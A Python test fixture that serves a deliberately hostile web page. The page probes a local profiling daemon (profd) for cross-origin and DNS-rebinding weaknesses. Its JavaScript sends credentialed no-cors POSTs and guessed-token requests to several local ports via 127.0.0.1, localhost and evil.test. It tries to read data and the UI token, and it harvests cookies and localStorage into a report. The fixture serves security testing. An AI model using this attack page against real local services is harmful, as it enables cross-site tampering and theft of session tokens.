#!/usr/bin/env python3
"""A web server of another origin, for test_cross_origin: its page tries
to push to and read from profd through every face a browser can reach
(the socket's forward, the TCP listener, profctl web), on each of the
names 127.0.0.1, localhost and evil.test (which the browser resolves to
127.0.0.1, as a rebound DNS name would), then reports what it saw.

    evilpage.py PORTFILE OUTDIR

GET /?fwd=P&tcp=P&web=P&label=L  the page
POST /report?label=L             its report, saved as OUTDIR/report-L.json
Every Cookie header a request brings is appended to OUTDIR/cookies.txt
(cookies ignore ports: the browser sends this server profctl web's).
Serves until the process that started it (the test) is gone."""
import http.server
import os
import sys
import threading
import time
import urllib.parse

PAGE = r"""<!doctype html>
<meta charset="utf-8"><title>running</title>
<script>
'use strict';
(async () => {
  const q = new URLSearchParams(location.search);
  const label = q.get('label');
  const faces = { fwd: q.get('fwd'), tcp: q.get('tcp'), web: q.get('web') };
  const out = { label, origin: location.origin, cookie: document.cookie,
    storage: JSON.stringify(Object.assign({}, localStorage)), tries: [] };
  const body = 'evil;xo 1\n';
  for (const host of ['127.0.0.1', 'localhost', 'evil.test']) {
    for (const [face, port] of Object.entries(faces)) {
      const base = 'http://' + host + ':' + port;
      const scope = ('xo-' + label + '-' + face + '-' + host).replace(/[^A-Za-z0-9._-]/g, '_');
      const push = face === 'tcp'
        ? base + '/ingest?name=' + scope + '.cpu&from=1700000000&until=1700000010'
        : base + '/v1/profiles?scope=' + scope;
      const t = { face, host };
      // A write as a form could send it: no preflight, the credentials
      // (profctl web's cookie) included, the answer unreadable.
      try {
        await fetch(push, { method: 'POST', mode: 'no-cors', credentials: 'include', body });
        t.push_sent = true;
      } catch (e) { t.push_sent = false; t.push_error = String(e); }
      // A write with the page's headers: needs a preflight.
      try {
        const r = await fetch(push.replace(scope, scope + '-h'), { method: 'POST', credentials: 'include', body,
          headers: { 'X-Profd-UI': '1', 'X-Profd-Token': 'guess' } });
        t.push_headers = r.status;
      } catch (e) { t.push_headers = 'failed: ' + e; }
      // A read.
      try {
        const r = await fetch(base + '/v1/scopes', { credentials: 'include' });
        t.read = r.status + ' ' + (await r.text()).slice(0, 300);
      } catch (e) { t.read = 'failed: ' + e; }
      // The page profctl web serves, for its token.
      if (face === 'web') {
        try {
          const r = await fetch(base + '/ui/', { credentials: 'include' });
          t.page = r.status + ' ' + (await r.text()).slice(0, 300);
        } catch (e) { t.page = 'failed: ' + e; }
      }
      out.tries.push(t);
    }
  }
  out.cookie_after = document.cookie;
  await fetch('/report?label=' + encodeURIComponent(label), { method: 'POST', body: JSON.stringify(out) });
  document.title = 'done';
})();
</script>
"""


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def note_cookie(self):
        c = self.headers.get("Cookie")
        if c:
            with LOCK:
                with open(os.path.join(OUT, "cookies.txt"), "a") as f:
                    f.write("%s %s\n" % (self.headers.get("Host"), c))

    def do_GET(self):
        self.note_cookie()
        if urllib.parse.urlparse(self.path).path != "/":
            self.send_error(404)
            return
        b = PAGE.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(b)))
        self.end_headers()
        self.wfile.write(b)

    def do_POST(self):
        self.note_cookie()
        u = urllib.parse.urlparse(self.path)
        n = int(self.headers.get("Content-Length") or 0)
        data = self.rfile.read(n)
        label = urllib.parse.parse_qs(u.query).get("label", ["x"])[0]
        if u.path == "/report" and label.isalnum():
            with open(os.path.join(OUT, "report-%s.json" % label), "wb") as f:
                f.write(data)
        self.send_response(204)
        self.end_headers()


LOCK = threading.Lock()
OUT = None


def main():
    global OUT
    portfile, OUT = sys.argv[1], sys.argv[2]
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    srv.daemon_threads = True
    open(portfile, "w").write(str(srv.server_address[1]))
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    parent = os.getppid()
    while os.getppid() == parent:
        time.sleep(1)


if __name__ == "__main__":
    main()
